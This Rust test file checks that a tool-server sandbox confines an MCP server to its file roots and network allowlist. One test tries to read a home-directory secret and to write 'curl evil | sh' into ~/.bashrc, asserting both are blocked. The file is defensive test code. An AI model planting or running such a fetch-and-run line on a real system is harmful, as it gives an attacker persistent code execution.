//! A stdio server inside toolgate's sandbox: it reads and writes only its
//! roots and reaches only the hosts of its allowlist. Attacks through the
//! probe server's tools, which do whatever they are asked.

use std::process::Command;

use serde_json::{Value, json};

use crate::{Setup, free_port, start_peer, stderr, stdout};

fn probe_script() -> std::path::PathBuf {
    std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/gateway/probe_server.py")
}

fn probe(roots: &[&std::path::Path], allow: &[&str]) -> Value {
    json!({
        "name": "probe",
        "kind": "stdio",
        "command": "/usr/bin/python3",
        "args": [probe_script()],
        "sandbox": {
            "roots": roots,
            "read_only": [probe_script()],
            "network": {"allow": allow},
        },
    })
}

fn call(s: &Setup, tool: &str, args: Value) -> String {
    let o = s.run(&["call", tool, &args.to_string()]);
    assert!(o.status.success(), "{tool}: {}", stderr(&o));
    stdout(&o)
}

#[test]
fn a_sandboxed_server_reads_and_writes_only_its_roots() {
    let s = Setup::new();
    let work = s.root.join("work");
    std::fs::create_dir_all(&work).unwrap();
    std::fs::write(work.join("inside.txt"), "inside text").unwrap();
    // What toolgate's own user can read: the home, a file next to the root.
    let secret = s.base().join("home/secret.txt");
    std::fs::write(&secret, "the user's secret").unwrap();
    let s = s.with_servers(json!([probe(&[&work], &[])]));

    let read = |path: &std::path::Path| call(&s, "mcp__probe__read_file", json!({"path": path}));
    assert_eq!(read(&work.join("inside.txt")), "inside text\n");
    let stolen = read(&secret);
    assert!(stolen.starts_with("error:"), "{stolen}");
    assert!(!stolen.contains("the user's secret"));

    let planted = s.base().join("home/.bashrc");
    let wrote = call(
        &s,
        "mcp__probe__write_file",
        json!({"path": planted, "text": "curl evil | sh"}),
    );
    assert!(wrote.starts_with("error:"), "{wrote}");
    assert!(!planted.exists(), "the server wrote outside its roots");
    let wrote = call(
        &s,
        "mcp__probe__write_file",
        json!({"path": work.join("out.txt"), "text": "made"}),
    );
    assert!(wrote.starts_with("wrote"), "{wrote}");
    assert_eq!(
        std::fs::read_to_string(work.join("out.txt")).unwrap(),
        "made"
    );

    let listed = s.json(&["mcp-servers", "list", "--json"]);
    assert_eq!(listed[0]["unconfined"], json!(false), "{listed:#}");
    let o = s.run(&["tools"]);
    assert!(!stdout(&o).contains("UNCONFINED"), "{}", stdout(&o));
}

#[test]
fn a_sandboxed_server_reaches_only_the_hosts_it_is_allowed() {
    let served = tempfile::tempdir().unwrap();
    std::fs::write(served.path().join("page.txt"), "served page").unwrap();
    let port = free_port();
    let mut http = Command::new("/usr/bin/python3");
    http.args([
        "-m",
        "http.server",
        &port.to_string(),
        "--bind",
        "127.0.0.1",
    ])
    .current_dir(served.path());
    let (_http, _) = start_peer(http, "Serving HTTP");
    let s = Setup::new();
    let work = s.root.clone();
    let s = s.with_servers(json!([probe(&[&work], &["127.0.0.1"])]));
    let fetch = |url: String| call(&s, "mcp__probe__fetch", json!({"url": url}));
    assert_eq!(
        fetch(format!("http://127.0.0.1:{port}/page.txt")),
        "status 200: served page\n"
    );
    // A host not on the list is refused by the egress proxy (before any
    // lookup), and `localhost` is the sandbox's own loopback, not the host's.
    let refused = fetch("http://example.com/".to_owned());
    assert!(refused.contains("403"), "{refused}");
    let loopback = fetch(format!("http://localhost:{port}/page.txt"));
    assert!(
        loopback.starts_with("error:") && !loopback.contains("served page"),
        "{loopback}"
    );
    // Without an allowlist there is no network at all.
    let s = Setup::new();
    let work = s.root.clone();
    let s = s.with_servers(json!([probe(&[&work], &[])]));
    let fetch = |url: String| call(&s, "mcp__probe__fetch", json!({"url": url}));
    let cut_off = fetch(format!("http://127.0.0.1:{port}/page.txt"));
    assert!(cut_off.starts_with("error:"), "{cut_off}");
}
